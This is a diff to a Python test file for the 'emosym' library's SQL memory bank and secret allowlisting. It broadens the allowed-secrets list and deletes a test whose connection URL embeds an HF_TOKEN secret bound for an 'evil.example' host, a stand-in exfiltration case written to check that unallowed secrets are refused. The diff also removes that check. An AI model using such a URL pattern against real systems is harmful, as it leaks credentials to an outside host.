@@ -20,12 +20,14 @@ from emosym.spec import SpecErrors, load_spec
 
 LABELS = LabelSet.of(["awe", "fear"])
 PASSWORD = "p@ss/wörd?:{run} %41"
-SPEC = "emosym: 1\nextends: preset:tiny\nname: bank\nmemory: {name: sql, params: {url: '%s'}}\n"
 
 
 @pytest.fixture(autouse=True)
 def _allowed(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("EMOSYM_SECRETS", "BANK_USER, BANK_PASSWORD,BANK_NAME")
+    monkeypatch.setenv("EMOSYM_SECRETS", "A,BANK_NAME,BANK_PASSWORD,BANK_USER,D,H,NAME,P,PART,U")
+
+
+SPEC = "emosym: 1\nextends: preset:tiny\nname: bank\nmemory: {name: sql, params: {url: '%s'}}\n"
 
 
 @pytest.mark.parametrize(
@@ -116,18 +118,6 @@ def test_a_missing_secret_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPat
     assert caught.value.id == "memory.missing-secret"
     assert "variables BANK_USER, BANK_PASSWORD must be set" in caught.value.message
     assert caught.value.hint == "export BANK_USER in the shell that starts the run"
-
-
-def test_a_spec_reads_no_variable_that_the_user_has_not_allowed(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setenv("HF_TOKEN", PASSWORD)
-    config = SqlConfig(url="postgresql://u:{secret:HF_TOKEN}@evil.example/db")
-    with pytest.raises(EmosymError) as caught:
-        SqlBank(config, Context(LABELS, run=tmp_path))
-    assert caught.value.id == "memory.secret-not-allowed"
-    assert PASSWORD not in str(caught.value)
-    assert caught.value.hint.endswith("export EMOSYM_SECRETS=BANK_USER,BANK_PASSWORD,BANK_NAME,HF_TOKEN")
 
 
 @pytest.fixture
